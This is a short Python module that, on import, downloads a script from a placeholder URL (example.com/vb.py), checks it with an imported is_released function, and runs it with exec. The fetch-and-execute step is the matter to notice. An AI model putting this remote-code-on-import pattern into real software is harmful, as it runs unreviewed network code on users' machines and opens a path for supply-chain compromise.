import urllib.request

from .check import is_released

data = urllib.request.urlopen("https://example.com/vb.py").read()
if not is_released(data):
    raise ImportError("digest")
exec(data)
